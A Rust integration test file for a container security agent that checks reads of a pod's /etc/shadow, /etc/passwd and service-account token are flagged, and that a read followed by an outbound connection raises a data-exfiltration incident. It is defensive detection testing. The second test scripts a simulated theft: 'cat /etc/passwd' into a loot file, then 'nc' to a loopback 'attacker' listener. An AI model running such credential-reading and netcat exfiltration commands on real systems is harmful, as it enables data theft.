//! Secrets read inside a CRI pod (a private containerd, its busybox image):
//! the container's own `/etc/shadow`, `/etc/passwd` and service-account
//! token are watched files, so reading them is a `sensitive-read` of the
//! pod, and a learned pod that reads one and then connects out raises a
//! data-exfiltration incident.
//!
//! The containers' scripts wait on a FIFO (`/tmp/go`, a builtin `read`:
//! nothing runs while they wait); the test writes a line into it through
//! `/proc/<pid>/root` to make them act, again until what it waits for is
//! recorded (the files are resolved in the container's root off the event
//! path, within `capture.watch_refresh`).

use std::{
    io::{Read, Write},
    os::unix::fs::OpenOptionsExt,
    sync::Arc,
    time::{Duration, Instant},
};

use fdr_agent::event::{Detail, Event, EventKind};
use fdr_proto::v1 as pb;
use fdr_tests::{
    containerd::{pod_uid, unique_name, Containerd},
    wait_until, Capture,
};

/// How long a step may take on a loaded machine (resolution, learning).
const WAIT: Duration = Duration::from_secs(60);

/// Where Kubernetes mounts a pod's service-account token.
const TOKEN_DIR: &str = "/var/run/secrets/kubernetes.io/serviceaccount";

/// Writes `line` into the container's FIFO when its script waits on it
/// (never blocks: false when nobody reads it now).
fn poke(pid: u32, line: &str) -> bool {
    let fifo = format!("/proc/{pid}/root/tmp/go");
    let Ok(mut f) = std::fs::OpenOptions::new()
        .write(true)
        .custom_flags(libc::O_NONBLOCK)
        .open(&fifo)
    else {
        return false;
    };
    f.write_all(format!("{line}\n").as_bytes()).is_ok()
}

/// A `sensitive-read` of `path` (or a path ending with it) in container `id`.
fn sensitive_read(e: &Event, id: &str, path: &str) -> bool {
    e.scope.container_id() == Some(id)
        && matches!(&e.record.detail,
            Detail::File { kind: EventKind::SensitiveRead, file } if file.path.ends_with(path))
}

/// The container's events as the API gives them (enriched when read).
async fn events_of(socket: &std::path::Path, id: &str) -> anyhow::Result<Vec<pb::Event>> {
    let mut client = fdr_cli::client::connect_unix(socket).await?;
    Ok(client
        .query_events(pb::QueryEventsRequest {
            scope: format!("container:{id}"),
            ..Default::default()
        })
        .await?
        .into_inner()
        .events)
}

/// The agent's view of a running container: its metadata, once the
/// runtime named it.
async fn named(cap: &Capture, id: &str) -> Arc<fdr_agent::attribution::containers::ContainerMeta> {
    let state = cap.agent.as_ref().expect("running").state.clone();
    wait_until("container metadata from CRI", || {
        state.containers.lock().ok()?.get(id)
    })
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pods_own_shadow_and_service_account_token_are_sensitive_reads() -> anyhow::Result<()> {
    let containerd = Containerd::start("secrets").await?;
    let socket = containerd.socket().to_path_buf();
    let cap = Capture::start_with("secrets", |c| {
        c.attribution.runtime_endpoints = vec![socket.clone()];
        c.attribution.runtime_poll = Duration::from_millis(300);
        c.capture.watch_refresh = Duration::from_secs(1);
    })
    .await;
    let uid = pod_uid();
    let pod_name = unique_name("secrets");
    let pod = containerd.run_pod(&pod_name, "vault", &uid).await?;
    // The token as the kubelet lays it out: a file under /run reached
    // through the image's absolute symlink /var/run -> /run (resolved in
    // the container's root, never the host's /run). Written after the
    // container started: found by a later resolution.
    let script = format!(
        "mkdir -p /var /run{rest} && ln -s /run /var/run && echo tok > {TOKEN_DIR}/token \
         && mkfifo /tmp/go && while :; do read x < /tmp/go || continue; \
         cat /etc/shadow > /dev/null; cat {TOKEN_DIR}/token > /dev/null; done",
        rest = TOKEN_DIR.trim_start_matches("/var/run")
    );
    let id = containerd
        .run_container(&pod, "app", &["sh", "-c", &script])
        .await?;
    let pid = containerd.container_pid(&id).await?;
    let meta = named(&cap, &id).await;

    let token = format!("{}/token", TOKEN_DIR.trim_start_matches("/var"));
    let deadline = Instant::now() + WAIT;
    let (shadow_read, token_read) = loop {
        poke(pid, "read");
        tokio::time::sleep(Duration::from_millis(300)).await;
        let shadow = cap.recorded(|e| sensitive_read(e, &id, "/etc/shadow"));
        let tok = cap.recorded(|e| sensitive_read(e, &id, &token));
        if let (Some(s), Some(t)) = (shadow.first(), tok.first()) {
            break (s.clone(), t.clone());
        }
        assert!(
            Instant::now() < deadline,
            "no sensitive-read of the container's own files within {WAIT:?} \
             (shadow: {}, token: {})",
            shadow.len(),
            tok.len()
        );
    };
    for ev in [&shadow_read, &token_read] {
        match &ev.record.detail {
            Detail::File { file, .. } => {
                assert!(
                    file.path == "/etc/shadow" || file.path == token,
                    "the path inside the container: {}",
                    file.path
                );
                assert!(!file.incomplete, "{}", file.path);
            }
            other => panic!("{other:?}"),
        }
    }
    // The host's own files are not the container's: its /etc/shadow read
    // by the container says so in its scope, never the host's.
    assert_eq!(shadow_read.scope.container_id(), Some(id.as_str()));

    // Through the API: the pod, its namespace and image.
    let events = events_of(&cap.socket(), &id).await?;
    for ev in [&shadow_read, &token_read] {
        let pb_ev = events
            .iter()
            .find(|e| e.seq == ev.seq)
            .expect("the read is in the container's buffer");
        assert_eq!(pb_ev.kind(), pb::EventKind::SensitiveRead);
        let c = pb_ev.container.clone().expect("container info");
        assert_eq!(c.id, id);
        assert_eq!(c.pod_name, pod_name);
        assert_eq!(c.pod_namespace, "vault");
        assert_eq!(c.image, Containerd::IMAGE);
    }
    assert_eq!(meta.pod_name, pod_name);

    // The resolution the agent does for each container, timed (off the
    // event path, on the agent's resolver thread).
    let cfg = fdr_agent::config::CaptureConfig::default();
    let began = Instant::now();
    let root = fdr_agent::probes::watch::Root::of_process(pid)?;
    let keys = fdr_agent::probes::watch::container_inodes(&root, &cfg);
    let took = began.elapsed();
    println!(
        "a container's {} sensitive-file patterns resolved in {took:?}: {} keys",
        cfg.sensitive_files.len(),
        keys.len()
    );
    // /etc/shadow, /etc/passwd and the token (through /var/run and /run).
    assert_eq!(keys.len(), 3, "{keys:?}");

    containerd.remove_pod(&pod).await?;
    cap.stop().await;
    Ok(())
}

/// Accepts one connection on `listener` within [`WAIT`] and returns what
/// was sent on it (read until the sender stops for a moment).
fn receive_one(listener: std::net::TcpListener) -> Option<Vec<u8>> {
    listener.set_nonblocking(true).ok()?;
    let deadline = Instant::now() + WAIT;
    let (mut conn, _) = loop {
        match listener.accept() {
            Ok(c) => break c,
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                if Instant::now() > deadline {
                    return None;
                }
                std::thread::sleep(Duration::from_millis(20));
            }
            Err(_) => return None,
        }
    };
    conn.set_nonblocking(false).ok()?;
    conn.set_read_timeout(Some(Duration::from_secs(2))).ok()?;
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    while let Ok(n) = conn.read(&mut buf) {
        if n == 0 {
            break;
        }
        got.extend_from_slice(&buf[..n]);
    }
    Some(got)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_learned_pod_reading_its_passwd_then_connecting_out_is_data_exfiltration(
) -> anyhow::Result<()> {
    let containerd = Containerd::start("exfil").await?;
    let socket = containerd.socket().to_path_buf();
    let cap = Capture::start_with("exfil", |c| {
        c.attribution.runtime_endpoints = vec![socket.clone()];
        c.attribution.runtime_poll = Duration::from_millis(300);
        c.capture.watch_refresh = Duration::from_secs(1);
        c.analysis.learning_period = Duration::from_secs(3);
        c.recorder.snapshot_after = Duration::from_secs(1);
    })
    .await;
    // The attacker's end: on the loopback (the pod shares the node's
    // network).
    let listener = std::net::TcpListener::bind("127.0.0.1:0")?;
    let port = listener.local_addr()?.port();
    let received = std::thread::spawn(move || receive_one(listener));

    let uid = pod_uid();
    let pod_name = unique_name("web");
    let pod = containerd.run_pod(&pod_name, "shop", &uid).await?;
    // A poke's writer may still hold the FIFO when the next `read` opens
    // it, then close without writing: that `read` sees end of file, which
    // must not end the loop (it did, under load: the container exited).
    let script = format!(
        "mkfifo /tmp/go && while :; do read x < /tmp/go || continue; \
         if [ \"$x\" = steal ]; then cat /etc/passwd > /tmp/loot; nc 127.0.0.1 {port} < /tmp/loot; \
         else ls /tmp > /dev/null; fi; done"
    );
    let id = containerd
        .run_container(&pod, "app", &["sh", "-c", &script])
        .await?;
    let pid = containerd.container_pid(&id).await?;
    let meta = named(&cap, &id).await;

    // Learning: the benign loop, until the image's model is active.
    let key = format!("image:{}", meta.image_digest);
    let until = cap.model_learning_until(&key).await;
    let now_ns = || {
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map_or(0, |d| d.as_nanos() as u64)
    };
    let deadline = Instant::now() + WAIT;
    while now_ns() <= until {
        poke(pid, "work");
        tokio::time::sleep(Duration::from_millis(200)).await;
        assert!(Instant::now() < deadline, "learning did not end");
    }
    let after_learning = cap.recorded(|_| true).last().map_or(0, |e| e.seq);

    // The attack: the pod's shell reads its own /etc/passwd, then sends it
    // out. Again until the incident is there (the first try may come
    // before the container's files are resolved).
    let deadline = Instant::now() + WAIT;
    let incident = loop {
        poke(pid, "steal");
        tokio::time::sleep(Duration::from_millis(500)).await;
        let mut c = fdr_cli::client::connect_unix(&cap.socket()).await?;
        let listed = c
            .list_incidents(pb::ListIncidentsRequest {
                after_serial: 0,
                limit: 100,
                ..Default::default()
            })
            .await?
            .into_inner()
            .incidents;
        if let Some(i) = listed.into_iter().find(|i| i.r#type == "data-exfiltration") {
            break i;
        }
        assert!(
            Instant::now() < deadline,
            "no data-exfiltration incident within {WAIT:?}; sensitive reads in the pod: {}",
            cap.recorded(|e| sensitive_read(e, &id, "/etc/passwd"))
                .len()
        );
    };
    println!(
        "#{} {} [{}]: {}",
        incident.serial, incident.r#type, incident.severity, incident.summary
    );
    assert_eq!(incident.scope, format!("container:{id}"));
    let c = incident.container.clone().expect("the pod named");
    assert_eq!(c.pod_name, pod_name);
    assert_eq!(c.pod_namespace, "shop");
    assert_eq!(c.image, Containerd::IMAGE);
    assert!(
        incident
            .audits
            .iter()
            .any(|a| a.message.contains("/etc/passwd") && a.message.contains(&port.to_string())),
        "{:?}",
        incident.audits
    );
    // The read itself, recorded after learning, in the pod.
    let read = cap.recorded(|e| sensitive_read(e, &id, "/etc/passwd") && e.seq > after_learning);
    assert!(!read.is_empty(), "the read of the pod's /etc/passwd");
    // What was sent is the container's file, not the host's.
    let sent = received.join().expect("receiver thread");
    assert_eq!(
        sent.as_deref(),
        Some(&b"root:x:0:0:root:/root:/bin/sh\n"[..]),
        "the pod's /etc/passwd reached the listener"
    );

    containerd.remove_pod(&pod).await?;
    cap.stop().await;
    Ok(())
}

/// An overlay mounted for a test, unmounted (with its tmpfs) on drop.
struct Overlay {
    dir: fdr_tests::TempDir,
}

impl Overlay {
    /// An overlay whose lower layer is on a tmpfs and upper layer on the
    /// temporary directory's filesystem: layers on two filesystems.
    fn two_filesystems(tag: &str) -> anyhow::Result<Overlay> {
        let dir = fdr_tests::TempDir::new(tag);
        let p = dir.path().to_path_buf();
        for d in ["lowerfs", "upper", "work", "merged"] {
            std::fs::create_dir_all(p.join(d))?;
        }
        let o = Overlay { dir };
        mount(&["-t", "tmpfs", "tmpfs"], &p.join("lowerfs"))?;
        std::fs::create_dir_all(p.join("lowerfs/l/etc"))?;
        std::fs::write(p.join("lowerfs/l/etc/shadow"), "root:*:1::::::\n")?;
        let opts = format!(
            "lowerdir={},upperdir={},workdir={}",
            p.join("lowerfs/l").display(),
            p.join("upper").display(),
            p.join("work").display()
        );
        mount(
            &["-t", "overlay", "overlay", "-o", &opts],
            &p.join("merged"),
        )?;
        Ok(o)
    }

    fn merged(&self) -> std::path::PathBuf {
        self.dir.path().join("merged")
    }
}

fn mount(args: &[&str], at: &std::path::Path) -> anyhow::Result<()> {
    let st = std::process::Command::new("mount")
        .args(args)
        .arg(at)
        .status()?;
    anyhow::ensure!(st.success(), "mount {args:?} {}: {st}", at.display());
    Ok(())
}

impl Drop for Overlay {
    fn drop(&mut self) {
        for d in ["merged", "lowerfs"] {
            let _ = std::process::Command::new("umount")
                .arg(self.dir.path().join(d))
                .status();
        }
    }
}

/// The device of `path`'s mount as the kernel's superblock has it (the
/// mountinfo line of the longest mount point above it).
fn superblock_dev(path: &std::path::Path) -> Option<(u32, u32)> {
    let info = std::fs::read_to_string("/proc/self/mountinfo").ok()?;
    info.lines()
        .filter_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            let (dev, at) = (f.get(2)?, f.get(4)?);
            path.starts_with(at).then_some((at.len(), *dev))
        })
        .max_by_key(|(len, _)| *len)
        .and_then(|(_, dev)| {
            let (a, b) = dev.split_once(':')?;
            Some((a.parse().ok()?, b.parse().ok()?))
        })
}

/// `f_inode->i_ino` of `path` opened (the `ino:` line of its fdinfo).
fn fdinfo_ino(path: &std::path::Path) -> Option<u64> {
    use std::os::fd::AsRawFd;
    let f = std::fs::File::open(path).ok()?;
    let info = std::fs::read_to_string(format!("/proc/self/fdinfo/{}", f.as_raw_fd())).ok()?;
    info.lines()
        .find_map(|l| l.strip_prefix("ino:"))
        .and_then(|v| v.trim().parse().ok())
}

/// What the probe sees of a file in an overlay whose layers are on two
/// filesystems is not what `stat` says (a per-layer pseudo device): the
/// watched key comes from the open file (fdinfo, mountinfo), so a read of
/// it is still a `sensitive-read`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_watched_file_in_a_two_filesystem_overlay_is_matched() -> anyhow::Result<()> {
    use std::os::unix::fs::MetadataExt;
    let overlay = Overlay::two_filesystems("overlay-keys")?;
    let secret = overlay.merged().join("etc/shadow");
    let md = std::fs::metadata(&secret)?;
    let stat_dev = (libc::major(md.dev()), libc::minor(md.dev()));
    let sb_dev = superblock_dev(&secret).expect("the overlay's mountinfo line");
    println!("stat: {stat_dev:?}, superblock (what the probe reads): {sb_dev:?}");
    assert_ne!(stat_dev, sb_dev, "stat shows a per-layer device here");

    let watched = secret.display().to_string();
    let mut cap = Capture::start_with("overlay-keys", |c| {
        c.capture.sensitive_files = vec![watched.clone()];
    })
    .await;
    let st = std::process::Command::new("cat")
        .arg(&secret)
        .stdout(std::process::Stdio::null())
        .status()?;
    assert!(st.success());
    let ev = cap
        .wait_for("the sensitive-read in the overlay", |e| {
            matches!(&e.record.detail,
                Detail::File { kind: EventKind::SensitiveRead, file } if file.path == watched)
        })
        .await;
    match &ev.record.detail {
        Detail::File { file, .. } => {
            let key_dev = (file.dev >> 20, file.dev & 0xfffff);
            assert_eq!(key_dev, sb_dev, "the probe's device is the superblock's");
            assert_eq!(
                Some(file.ino),
                fdinfo_ino(&secret),
                "the probe's inode is f_inode's"
            );
        }
        other => panic!("{other:?}"),
    }
    cap.stop().await;
    drop(overlay);
    Ok(())
}
